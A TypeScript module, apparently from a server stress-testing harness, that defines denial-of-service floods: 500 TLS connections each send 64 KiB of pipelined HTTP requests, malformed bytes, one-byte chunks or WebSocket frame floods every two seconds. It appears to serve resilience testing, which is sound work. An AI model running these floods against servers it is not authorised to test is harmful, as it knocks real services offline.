/** Attacks in which many connections send a piece of 64 KiB at the same moment, with as many requests as it holds. */
import { setTimeout } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import {
  type Attack,
  type AttackTarget,
  frame,
  openRaw,
  openSeveral,
  openWebSocket,
} from './attack.ts';

const connections = 500;
/** Milliseconds between two moments. */
const pause = 2_000;
const bytesOfPiece = 65_536;

/** What a connection sends, for the path and host of the attacked server. */
type Piece = (path: string, host: string) => string | Buffer;

/** Repeats a text until a piece is full. */
function full(text: string): string {
  return text.repeat(Math.floor(bytesOfPiece / text.length));
}

/** Sends a piece on every connection at the same moment, then replaces those that ended. */
function atOnce(
  title: string,
  piece: Piece,
  open: (target: AttackTarget) => Promise<TLSSocket> = openRaw,
): Attack {
  return {
    title: `${connections} connections of a stranger at the same moment, every 2 s: ${title}`,
    hasPreparation: true,
    async run(target, signal, begun) {
      const { host, pathname } = new URL(target.https);
      const bytes = Buffer.from(piece(pathname, host));
      let sockets = await openSeveral(connections, () => open(target), signal);
      begun();
      while (!signal.aborted) {
        for (const socket of sockets) if (socket.writableLength === 0) socket.write(bytes);
        await setTimeout(pause);
        sockets = sockets.filter(({ destroyed }) => !destroyed);
        const missing = Math.min(100, connections - sockets.length);
        sockets.push(...(await openSeveral(missing, () => open(target), signal)));
      }
    },
  };
}

export const pipelinedTiny = atOnce('64 KiB of GETs of 28 bytes', () =>
  full('GET / HTTP/1.1\r\nHost: a\r\n\r\n'),
);

export const pipelinedUnknown = atOnce('64 KiB of requests with an unknown method', () =>
  full('PURGE / HTTP/1.1\r\nHost: a\r\n\r\n'),
);

export const pipelinedPosts = atOnce('64 KiB of POSTs with an empty body', (path) =>
  full(`POST ${path}/auth/challenge HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n`),
);

export const pipelinedHeads = atOnce('64 KiB of HEADs', () =>
  full('HEAD / HTTP/1.1\r\nHost: a\r\n\r\n'),
);

export const malformedRequests = atOnce('64 KiB of what is no request', () => full('?'));

/** The headers of a body in chunks. */
const chunked: Piece = (path, host) =>
  `POST ${path}/auth/challenge HTTP/1.1\r\nHost: ${host}\r\n` +
  'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';

export const chunksAtOnce = atOnce(
  'a body with its headers and 64 KiB of chunks of one byte',
  (...to) => chunked(...to) + full('1\r\n \r\n'),
);

export const emptyFragments = atOnce(
  '64 KiB of frames without content, all of one message',
  () => {
    const fragment = frame(0, Buffer.alloc(0), false);
    const rest = Array.from({ length: bytesOfPiece / fragment.length - 1 }, () => fragment);
    return Buffer.concat([frame(1, Buffer.alloc(0), false), ...rest]);
  },
  openWebSocket,
);

export const closedUpgrades = atOnce(
  'an upgrade with a close frame and 64 KiB of others',
  (path, host) =>
    Buffer.concat([
      Buffer.from(
        `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
          'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
      ),
      frame(8, Buffer.from([3, 232])),
      ...Array.from({ length: 10_000 }, () => frame(9, Buffer.alloc(0))),
    ]),
);
